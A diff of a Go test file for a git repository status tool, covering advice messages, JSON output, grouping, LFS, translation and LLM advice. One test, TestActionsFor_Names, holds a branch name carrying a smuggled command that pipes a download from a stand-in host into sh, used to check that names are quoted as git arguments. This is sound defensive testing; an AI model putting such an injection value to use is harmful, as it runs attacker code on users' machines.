@@ -1,14 +1,19 @@
 package render
 
 import (
+	"bytes"
 	"encoding/json"
+	"errors"
 	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
+	"github.com/jdevera/git-this-bread/internal/actions"
 	"github.com/jdevera/git-this-bread/internal/analyzer"
+	"github.com/jdevera/git-this-bread/internal/i18n"
+	"github.com/jdevera/git-this-bread/internal/llmadvice"
 	"github.com/jdevera/git-this-bread/testutil"
 )
 
@@ -284,7 +289,7 @@ func TestRenderJSON(t *testing.T) {
 	}
 
 	output := testutil.CaptureStdout(func() {
-		RenderJSON(repos)
+		assert.NoError(t, RenderJSON(repos))
 	})
 
 	// Verify it's valid JSON
@@ -309,7 +314,7 @@ func TestRenderRepo_JSON(t *testing.T) {
 	}
 
 	output := testutil.CaptureStdout(func() {
-		RenderRepo(info, Options{UseJSON: true})
+		assert.NoError(t, RenderRepo(info, Options{UseJSON: true}))
 	})
 
 	// Verify it's valid JSON
@@ -321,6 +326,31 @@ func TestRenderRepo_JSON(t *testing.T) {
 	assert.Equal(t, "feature", parsed["current_branch"])
 }
 
+func TestWriteRepo_JSONMatchesWriteJSON(t *testing.T) {
+	info := analyzer.RepoInfo{
+		Name:          "repo",
+		Path:          "/repos/repo",
+		IsGitRepo:     true,
+		CurrentBranch: "main",
+		DefaultBranch: "main",
+		HasUserRemote: true,
+		Ahead:         2,
+		AllRemotes:    []analyzer.RemoteInfo{{Name: "origin", URL: "git@github.com:me/repo.git", IsMine: true}},
+	}
+
+	var single, multi bytes.Buffer
+	require.NoError(t, WriteRepo(&single, &info, Options{UseJSON: true}))
+	require.NoError(t, WriteJSON(&multi, []analyzer.RepoInfo{info}))
+
+	var list []json.RawMessage
+	require.NoError(t, json.Unmarshal(multi.Bytes(), &list))
+	require.Len(t, list, 1)
+	var want, got bytes.Buffer
+	require.NoError(t, json.Compact(&want, single.Bytes()))
+	require.NoError(t, json.Compact(&got, list[0]))
+	assert.Equal(t, want.String(), got.String(), "same keys in the same order")
+}
+
 func TestRenderRepo_Compact(t *testing.T) {
 	info := &analyzer.RepoInfo{
 		Name:             "test-repo",
@@ -333,7 +363,7 @@ func TestRenderRepo_Compact(t *testing.T) {
 	}
 
 	output := testutil.CaptureStdout(func() {
-		RenderRepo(info, Options{Verbose: false})
+		assert.NoError(t, RenderRepo(info, Options{Verbose: false}))
 	})
 
 	// Should be a single line containing repo info
@@ -351,7 +381,7 @@ func TestRenderRepo_NotGitRepo(t *testing.T) {
 	}
 
 	output := testutil.CaptureStdout(func() {
-		RenderRepo(info, Options{})
+		assert.NoError(t, RenderRepo(info, Options{}))
 	})
 
 	assert.Contains(t, output, "not-a-repo")
@@ -367,7 +397,7 @@ func TestRenderRepo_WithError(t *testing.T) {
 	}
 
 	output := testutil.CaptureStdout(func() {
-		RenderRepo(info, Options{})
+		assert.NoError(t, RenderRepo(info, Options{}))
 	})
 
 	assert.Contains(t, output, "error-repo")
@@ -386,8 +416,525 @@ func TestRenderRepo_WithAdvice(t *testing.T) {
 	}
 
 	output := testutil.CaptureStdout(func() {
-		RenderRepo(info, Options{ShowAdvice: true})
+		assert.NoError(t, RenderRepo(info, Options{ShowAdvice: true}))
 	})
 
 	assert.Contains(t, output, "Push your 2 unpushed commit(s)")
 }
+
+func TestGetAdvice_GoneBranches(t *testing.T) {
+	info := &analyzer.RepoInfo{
+		IsGitRepo:        true,
+		HasUserRemote:    true,
+		TotalUserCommits: 1,
+		LocalBranches: []analyzer.BranchInfo{
+			{Name: "main", Upstream: "origin/main"},
+			{Name: "old-1", Upstream: "origin/old-1", UpstreamGone: true},
+			{Name: "old-2", Upstream: "origin/old-2", UpstreamGone: true},
+		},
+	}
+
+	assert.Equal(t, withArgs([]Advice{{
+		Text:     "2 branch(es) track deleted remotes - delete them",
+		Severity: SeverityInfo,
+		Command:  "git branch -d old-1 old-2",
+	}}), AdviceFor(info), "-d keeps branches with unmerged commits")
+
+	info.StaleRemoteRefs = []string{"origin/old-3"}
+	assert.Equal(t, []string{
+		"1 remote-tracking ref(s) deleted upstream - run git fetch --prune",
+		"2 branch(es) track deleted remotes - delete them",
+	}, GetAdvice(info))
+}
+
+func TestGetAdvice_UnpushedBranches(t *testing.T) {
+	info := &analyzer.RepoInfo{
+		IsGitRepo:        true,
+		HasUserRemote:    true,
+		TotalUserCommits: 1,
+		Ahead:            1,
+		LocalBranches: []analyzer.BranchInfo{
+			{Name: "main", IsCurrent: true, Upstream: "origin/main", Ahead: 1},
+			{Name: "feature", Upstream: "origin/feature", Ahead: 2},
+			{Name: "fix", Upstream: "origin/bugfix", Ahead: 4},
+		},
+	}
+
+	assert.Equal(t, withArgs([]Advice{
+		{Text: "Push your 1 unpushed commit(s)", Severity: SeverityWarning, Command: "git push"},
+		{Text: "Push 6 unpushed commit(s) on 2 other branch(es)", Severity: SeverityWarning, Command: "git push origin feature fix:bugfix"},
+	}), AdviceFor(info))
+	assert.Equal(t, "7 unpushed in 3 branches", unpushedText(info))
+
+	// Branches tracking different remotes get no single command
+	info.LocalBranches[2].Upstream = "fork/fix"
+	assert.Empty(t, AdviceFor(info)[1].Command)
+
+	info.Ahead, info.LocalBranches = 0, info.LocalBranches[1:2]
+	assert.Equal(t, "2 unpushed on feature", unpushedText(info))
+}
+
+func TestGetAdvice_RemoteOnlyBranches(t *testing.T) {
+	info := &analyzer.RepoInfo{
+		IsGitRepo:        true,
+		HasUserRemote:    true,
+		TotalUserCommits: 1,
+		RemoteOnlyBranches: []analyzer.RemoteBranch{
+			{Remote: "origin", Name: "laptop-work"},
+			{Remote: "origin", Name: "spike"},
+			{Remote: "backup", Name: "old"},
+		},
+	}
+
+	assert.Equal(t, withArgs([]Advice{
+		{Text: "2 branch(es) on origin not checked out here - fetch them", Severity: SeverityInfo, Command: "git fetch origin"},
+		{Text: "1 branch(es) on backup not checked out here - fetch them", Severity: SeverityInfo, Command: "git fetch backup"},
+	}), AdviceFor(info))
+}
+
+func TestGetAdvice_OperationInProgress(t *testing.T) {
+	info := &analyzer.RepoInfo{
+		IsGitRepo:        true,
+		HasUserRemote:    true,
+		TotalUserCommits: 1,
+		Operation: &analyzer.OperationDetails{
+			State:         analyzer.OpRebase,
+			ConflictFiles: []string{"a.go", "b.go"},
+		},
+	}
+
+	assert.Equal(t, []string{
+		"Finish or abort the rebase in progress",
+		"Resolve 2 conflicted file(s)",
+	}, GetAdvice(info))
+}
+
+func TestGetAdvice_NeedsGC(t *testing.T) {
+	info := &analyzer.RepoInfo{
+		IsGitRepo:        true,
+		HasUserRemote:    true,
+		TotalUserCommits: 1,
+		DiskUsage:        &analyzer.DiskUsage{LooseObjects: 8000, Packs: 3},
+	}
+
+	assert.Equal(t, []string{"8000 loose objects in 3 packs - run git gc"}, GetAdvice(info))
+
+	info.DiskUsage = &analyzer.DiskUsage{LooseObjects: 10, Packs: 1, GarbageBytes: 2048}
+	assert.Equal(t, []string{"10 loose objects in 1 packs, 2.0 KiB of garbage files - run git gc"}, GetAdvice(info))
+}
+
+func TestGetAdvice_BranchOverlaps(t *testing.T) {
+	info := &analyzer.RepoInfo{
+		IsGitRepo:        true,
+		HasUserRemote:    true,
+		TotalUserCommits: 1,
+		BranchOverlaps: []analyzer.BranchOverlap{
+			{Source: analyzer.WorkingTreeSource, Branch: "feature/auth", Files: []string{"auth.go", "login.go"}},
+			{Source: "stash@{1}", Branch: "docs", Files: []string{"README.md"}},
+		},
+	}
+
+	assert.Equal(t, []string{
+		"Your uncommitted changes touch 2 file(s) from feature/auth - you may be on the wrong branch",
+		"stash@{1} touches 1 file(s) from docs - apply it there",
+	}, GetAdvice(info))
+}
+
+func TestGetAdvice_Maintenance(t *testing.T) {
+	info := &analyzer.RepoInfo{
+		Path:             "/src/app",
+		IsGitRepo:        true,
+		HasUserRemote:    true,
+		TotalUserCommits: 1,
+		DiskUsage:        &analyzer.DiskUsage{LooseObjects: 8000},
+		Maintenance:      &analyzer.Maintenance{AutoGCDisabled: true},
+	}
+
+	assert.Equal(t, []string{
+		"8000 loose objects in 0 packs - run git gc",
+		"Automatic gc is off (gc.auto=0) - turn it back on",
+		"No background maintenance - run git maintenance start",
+	}, GetAdvice(info))
+
+	var commands []string
+	for _, a := range MaintenanceActionsFor(info) {
+		commands = append(commands, a.Command)
+	}
+	assert.Equal(t, []string{"git gc", "git config --unset gc.auto", "git maintenance start"}, commands)
+
+	info.Maintenance = &analyzer.Maintenance{Strategy: "incremental"}
+	info.DiskUsage = &analyzer.DiskUsage{}
+	assert.Empty(t, MaintenanceActionsFor(info))
+}
+
+func TestFormatBytes(t *testing.T) {
+	assert.Equal(t, "512 B", formatBytes(512))
+	assert.Equal(t, "1.5 KiB", formatBytes(1536))
+	assert.Equal(t, "2.0 MiB", formatBytes(2*1024*1024))
+}
+
+func TestWriteRepo(t *testing.T) {
+	info := &analyzer.RepoInfo{
+		Name:             "buffered",
+		IsGitRepo:        true,
+		CurrentBranch:    "main",
+		HasUserRemote:    true,
+		UserRemotes:      []string{"origin"},
+		TotalUserCommits: 3,
+	}
+
+	var buf bytes.Buffer
+	require.NoError(t, WriteRepo(&buf, info, Options{Verbose: true}))
+
+	assert.Contains(t, buf.String(), "buffered")
+	assert.Contains(t, buf.String(), "3 commits by you")
+}
+
+type failingWriter struct{}
+
+func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }
+
+func TestWriteRepos_PropagatesWriteErrors(t *testing.T) {
+	repos := []analyzer.RepoInfo{{Name: "a", IsGitRepo: true}, {Name: "b", IsGitRepo: true}}
+
+	assert.EqualError(t, WriteRepos(failingWriter{}, repos, Options{}), "disk full")
+	assert.EqualError(t, WriteTable(failingWriter{}, repos), "disk full")
+	assert.EqualError(t, WriteJSON(failingWriter{}, repos), "disk full")
+	assert.EqualError(t, WriteLegend(failingWriter{}), "disk full")
+}
+
+func TestWriteRepos_AlignedCompact(t *testing.T) {
+	repos := []analyzer.RepoInfo{
+		{Name: "a", IsGitRepo: true, CurrentBranch: "main", TotalUserCommits: 1, HasUserRemote: true, UserRemotes: []string{"origin"}},
+		{Name: "much-longer-name", IsGitRepo: true, CurrentBranch: "feature/x", TotalUserCommits: 120},
+	}
+
+	var buf bytes.Buffer
+	require.NoError(t, WriteRepos(&buf, repos, Options{Aligned: true}))
+	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
+	require.Len(t, lines, 3, "header plus one line per repo")
+
+	// Branch column starts at the same offset on every line
+	assert.Equal(t, strings.Index(lines[1], "main"), strings.Index(lines[2], "feature/x"))
+
+	buf.Reset()
+	require.NoError(t, WriteRepos(&buf, repos, Options{}))
+	lines = strings.Split(strings.TrimSpace(buf.String()), "\n")
+	assert.NotEqual(t, strings.Index(lines[1], "main"), strings.Index(lines[2], "feature/x"))
+}
+
+func TestWriteRepos_GroupsByCategory(t *testing.T) {
+	repos := []analyzer.RepoInfo{
+		{Name: "clone", IsGitRepo: true},
+		{Name: "dirty", IsGitRepo: true, TotalUserCommits: 2, HasUncommittedChanges: true},
+		{Name: "mine", IsGitRepo: true, TotalUserCommits: 5},
+		{Name: "notes", IsGitRepo: false},
+	}
+
+	var buf bytes.Buffer
+	require.NoError(t, WriteRepos(&buf, repos, Options{}))
+	output := buf.String()
+
+	active := strings.Index(output, "Active (1)")
+	attention := strings.Index(output, "Needs attention (1)")
+	untouched := strings.Index(output, "Untouched clones (1)")
+	require.True(t, active >= 0 && attention >= 0 && untouched >= 0, output)
+	assert.Less(t, active, strings.Index(output, "mine"))
+	assert.Less(t, strings.Index(output, "mine"), attention)
+	assert.Less(t, attention, strings.Index(output, "dirty"))
+	assert.Less(t, strings.Index(output, "dirty"), untouched)
+	assert.Less(t, untouched, strings.Index(output, "clone"))
+	assert.NotContains(t, output, "Not git", "non-git group hidden without ShowAll")
+
+	buf.Reset()
+	require.NoError(t, WriteRepos(&buf, repos, Options{ShowAll: true}))
+	assert.Contains(t, buf.String(), "Not git repositories (1)")
+}
+
+func TestWriteRepos_GroupsByLabel(t *testing.T) {
+	repos := []analyzer.RepoInfo{
+		{Name: "api", IsGitRepo: true, Labels: []string{"backend", "client-a"}},
+		{Name: "web", IsGitRepo: true, Labels: []string{"client-a"}},
+		{Name: "dotfiles", IsGitRepo: true},
+		{Name: "notes", IsGitRepo: false},
+	}
+
+	var buf bytes.Buffer
+	require.NoError(t, WriteRepos(&buf, repos, Options{ByLabel: true}))
+	output := buf.String()
+
+	backend := strings.Index(output, "backend (1)")
+	clientA := strings.Index(output, "client-a (2)")
+	none := strings.Index(output, "No label (1)")
+	require.True(t, backend >= 0 && clientA >= 0 && none >= 0, output)
+	assert.Less(t, backend, clientA)
+	assert.Less(t, clientA, strings.LastIndex(output, "web"))
+	assert.Less(t, clientA, none)
+	assert.Less(t, none, strings.Index(output, "dotfiles"))
+	assert.Equal(t, 2, strings.Count(output, "api"), "under each of its labels")
+	assert.NotContains(t, output, "notes", "non-git directories hidden without ShowAll")
+	assert.NotContains(t, output, "Active")
+}
+
+func TestJoinColumns(t *testing.T) {
+	cols := []string{"name", "", "remote", "status"}
+
+	assert.Equal(t, "name  remote  status", joinColumns(cols, nil))
+	assert.Equal(t, "name  remote  status", joinColumns(cols, []int{4, 0, 6}), "all-empty column dropped")
+	assert.Equal(t, "name        remote  status", joinColumns(cols, []int{4, 4, 6}))
+}
+
+func TestGetAdvice_BehindAndUpstream(t *testing.T) {
+	info := &analyzer.RepoInfo{
+		IsGitRepo:        true,
+		HasUserRemote:    true,
+		TotalUserCommits: 1,
+		Behind:           3,
+		IsFork:           true,
+		UpstreamRemote:   "upstream",
+		UpstreamAhead:    1,
+		UpstreamBehind:   7,
+	}
+
+	assert.Equal(t, []string{
+		"Pull 3 commit(s) from the remote",
+		"Sync with upstream - 7 commit(s) behind upstream",
+	}, GetAdvice(info))
+}
+
+func TestRenderRepo_BehindAndDivergence(t *testing.T) {
+	info := &analyzer.RepoInfo{
+		Name:           "fork",
+		IsGitRepo:      true,
+		IsFork:         true,
+		Behind:         2,
+		UpstreamRemote: "upstream",
+		UpstreamAhead:  1,
+		UpstreamBehind: 4,
+	}
+
+	var buf bytes.Buffer
+	require.NoError(t, WriteRepo(&buf, info, Options{}))
+	assert.Contains(t, buf.String(), "2 behind")
+	assert.Contains(t, buf.String(), "1 ahead, 4 behind upstream")
+
+	buf.Reset()
+	require.NoError(t, WriteRepo(&buf, info, Options{Verbose: true}))
+	assert.Contains(t, buf.String(), "1 ahead, 4 behind upstream (upstream)")
+
+	buf.Reset()
+	require.NoError(t, WriteTable(&buf, []analyzer.RepoInfo{*info}))
+	assert.Contains(t, buf.String(), Icons["behind"]+"2")
+	assert.Contains(t, buf.String(), Icons["upstream"]+"+1/-4")
+
+	// Walks cut short by --max-commits give lower bounds
+	info.DivergenceTruncated, info.UpstreamTruncated = true, true
+	buf.Reset()
+	require.NoError(t, WriteRepo(&buf, info, Options{}))
+	assert.Contains(t, buf.String(), "≥2 behind")
+	assert.Contains(t, buf.String(), "≥1 ahead, ≥4 behind upstream")
+
+	buf.Reset()
+	require.NoError(t, WriteTable(&buf, []analyzer.RepoInfo{*info}))
+	assert.Contains(t, buf.String(), Icons["behind"]+"≥2")
+	assert.Contains(t, buf.String(), Icons["upstream"]+"+≥1/-≥4")
+}
+
+func TestAdviceFor_SeverityAndCommand(t *testing.T) {
+	info := &analyzer.RepoInfo{
+		IsGitRepo:        true,
+		HasUserRemote:    true,
+		TotalUserCommits: 1,
+		Ahead:            2,
+		Operation:        &analyzer.OperationDetails{State: analyzer.OpBisect},
+	}
+
+	assert.Equal(t, withArgs([]Advice{
+		{Text: "Finish or abort the bisect in progress", Severity: SeverityCritical, Command: "git bisect reset"},
+		{Text: "Push your 2 unpushed commit(s)", Severity: SeverityWarning, Command: "git push"},
+	}), AdviceFor(info))
+}
+
+func TestAdviceFor_LFS(t *testing.T) {
+	info := &analyzer.RepoInfo{IsGitRepo: true, HasUserRemote: true, TotalUserCommits: 1, LFS: &analyzer.LFSInfo{Files: 3}}
+	assert.Equal(t, withArgs([]Advice{
+		{Text: "Install Git LFS - 3 file(s) here are only LFS pointers without it", Severity: SeverityWarning, Command: "git lfs install"},
+	}), AdviceFor(info))
+
+	info.LFS = &analyzer.LFSInfo{Files: 3, Installed: true, Unpushed: 2}
+	assert.Equal(t, withArgs([]Advice{
+		{Text: "Push 2 LFS object(s) - without the Git LFS hook, git push leaves them behind", Severity: SeverityWarning},
+	}), AdviceFor(info), "no command without an upstream")
+	info.TrackedRemote, info.CurrentBranch = "origin", "main"
+	assert.Equal(t, "git lfs push origin main", AdviceFor(info)[0].Command)
+
+	info.LFS.Hooked = true
+	assert.Empty(t, AdviceFor(info), "git push uploads them")
+	assert.Contains(t, lfsSummary(info.LFS), "2 object(s) to push")
+}
+
+func TestAdviceFor_Translated(t *testing.T) {
+	require.NoError(t, i18n.SetLocale("es"))
+	t.Cleanup(func() { _ = i18n.SetLocale(i18n.Default) })
+
+	info := &analyzer.RepoInfo{IsGitRepo: true, HasUserRemote: true, TotalUserCommits: 1, Ahead: 2}
+	assert.Equal(t, withArgs([]Advice{
+		{Text: "Sube tus 2 commit(s) sin publicar", Severity: SeverityWarning, Command: "git push"},
+	}), AdviceFor(info))
+}
+
+func TestActionsFor(t *testing.T) {
+	info := &analyzer.RepoInfo{
+		Path:                  "/src/repo",
+		IsGitRepo:             true,
+		HasUserRemote:         true,
+		TotalUserCommits:      1,
+		Ahead:                 2,
+		HasUncommittedChanges: true,
+		DirtyDetails:          &analyzer.DirtyDetails{Untracked: 9},
+	}
+
+	assert.Equal(t, []actions.Action{{
+		Tool:     "git-explain",
+		Repo:     "/src/repo",
+		Action:   "Push your 2 unpushed commit(s)",
+		Command:  "git push",
+		Args:     []string{"git", "push"},
+		Severity: "warning",
+		Dir:      "/src/repo",
+	}}, ActionsFor(info), "advice without a command is left out")
+
+	// Commands that only show something fix nothing
+	info.Ahead, info.StashCount = 0, 1
+	info.Operation = &analyzer.OperationDetails{ConflictFiles: []string{"a.go"}}
+	assert.Empty(t, ActionsFor(info))
+}
+
+func TestActionsFor_Names(t *testing.T) {
+	branch := "main;curl${IFS}evil.example|sh"
+	info := &analyzer.RepoInfo{
+		Path:             "/src/repo",
+		IsGitRepo:        true,
+		HasUserRemote:    true,
+		TotalUserCommits: 1,
+		UpstreamRemote:   "upstream",
+		UpstreamBehind:   3,
+		DefaultBranch:    branch,
+		AllRemotes:       []analyzer.RemoteInfo{{Name: "mirror", Reachable: new(bool)}},
+	}
+
+	items := ActionsFor(info)
+	require.Len(t, items, 1, "an unreachable remote is not removed")
+	assert.Equal(t, []string{"git", "pull", "upstream", branch}, items[0].Args, "names are arguments of git, not shell")
+	assert.Equal(t, "git pull upstream 'main;curl${IFS}evil.example|sh'", items[0].Command)
+}
+
+// withArgs sets the Args of advice from its Command, for advice whose
+// names need no quoting
+func withArgs(advice []Advice) []Advice {
+	for i := range advice {
+		if advice[i].Command != "" {
+			advice[i].Args = strings.Fields(advice[i].Command)
+		}
+	}
+	return advice
+}
+
+func TestWriteRepo_AdviceCommands(t *testing.T) {
+	info := &analyzer.RepoInfo{
+		Name:             "repo",
+		IsGitRepo:        true,
+		HasUserRemote:    true,
+		TotalUserCommits: 1,
+		Ahead:            1,
+	}
+
+	var buf bytes.Buffer
+	require.NoError(t, WriteRepo(&buf, info, Options{ShowAdvice: true}))
+	assert.Contains(t, buf.String(), "! Push your 1 unpushed commit(s)")
+	assert.Contains(t, buf.String(), "$ git push")
+}
+
+func TestWriteJSON_IncludesAdvice(t *testing.T) {
+	repos := []analyzer.RepoInfo{
+		{Name: "repo", IsGitRepo: true, HasUserRemote: true, TotalUserCommits: 1, Ahead: 1},
+		{Name: "plain-dir"},
+	}
+
+	var buf bytes.Buffer
+	require.NoError(t, WriteJSON(&buf, repos))
+
+	var parsed []map[string]any
+	require.NoError(t, json.Unmarshal(buf.Bytes(), &parsed))
+	require.Len(t, parsed, 2)
+	assert.Equal(t, "repo", parsed[0]["name"])
+	assert.Equal(t, []any{map[string]any{
+		"text":     "Push your 1 unpushed commit(s)",
+		"severity": "warning",
+		"command":  "git push",
+	}}, parsed[0]["advice"])
+	assert.NotContains(t, parsed[1], "advice")
+}
+
+func TestWriteJSONWithLLM(t *testing.T) {
+	t.Setenv("XDG_CACHE_HOME", t.TempDir())
+	server := ollamaServer(t, `{"advice": [{"text": "Push it", "severity": "warning", "command": "git push"}]}`)
+
+	repos := []analyzer.RepoInfo{
+		{Name: "repo", Path: "/repos/repo", IsGitRepo: true},
+		{Name: "plain-dir", Path: "/repos/plain-dir"},
+	}
+	llmOpts := &llmadvice.Options{Provider: llmadvice.ProviderOllama, BaseURL: server.URL, NoCache: true}
+
+	var buf bytes.Buffer
+	require.NoError(t, WriteJSONWithLLM(&buf, repos, llmOpts))
+
+	var parsed []RepoJSON
+	require.NoError(t, json.Unmarshal(buf.Bytes(), &parsed))
+	require.Len(t, parsed, 2)
+	assert.Equal(t, []Advice{{Text: "Push it", Severity: SeverityWarning, Command: "git push"}}, parsed[0].LLMAdvice)
+	assert.Empty(t, parsed[0].LLMError)
+	assert.Nil(t, parsed[1].LLMAdvice, "only git repos are sent to the LLM")
+}
+
+func TestWriteRepos_StaticLLMAdvice(t *testing.T) {
+	t.Setenv("XDG_CACHE_HOME", t.TempDir())
+
+	repos := []analyzer.RepoInfo{{Name: "quiet", Path: "/repos/quiet", IsGitRepo: true, HasUserRemote: true, TotalUserCommits: 1}}
+	opts := Options{
+		ShowAdvice: true,
+		LLMOpts:    &llmadvice.Options{Provider: llmadvice.ProviderStatic},
+	}
+
+	var buf bytes.Buffer
+	require.NoError(t, WriteRepos(&buf, repos, opts))
+	output := buf.String()
+
+	assert.Contains(t, output, "LLM Summary:")
+	assert.Contains(t, output, "All good")
+	assert.NotContains(t, output, "LLM unavailable")
+}
+
+func TestGetAdvice_ReadOnlyRemote(t *testing.T) {
+	info := &analyzer.RepoInfo{
+		IsGitRepo:        true,
+		HasUserRemote:    true,
+		TotalUserCommits: 1,
+		TrackedRemote:    "origin",
+		Ahead:            3,
+		AllRemotes:       []analyzer.RemoteInfo{{Name: "origin", Host: "github.com", ReadOnly: true}},
+		LocalBranches: []analyzer.BranchInfo{
+			{Name: "main", IsCurrent: true, Upstream: "origin/main", Ahead: 3},
+			{Name: "feature", Upstream: "origin/feature", Ahead: 1},
+		},
+	}
+
+	assert.Equal(t, withArgs([]Advice{
+		{Text: "origin is read-only - push your 3 unpushed commit(s) to a fork instead", Severity: SeverityWarning, Command: "gh repo fork --remote"},
+		{Text: "1 unpushed commit(s) on 1 other branch(es) track read-only origin - push them to a fork instead", Severity: SeverityWarning, Command: "gh repo fork --remote"},
+	}), AdviceFor(info))
+
+	// Elsewhere there is no command that forks
+	info.AllRemotes[0].Host = "git.kernel.org"
+	assert.Empty(t, AdviceFor(info)[0].Command)
+}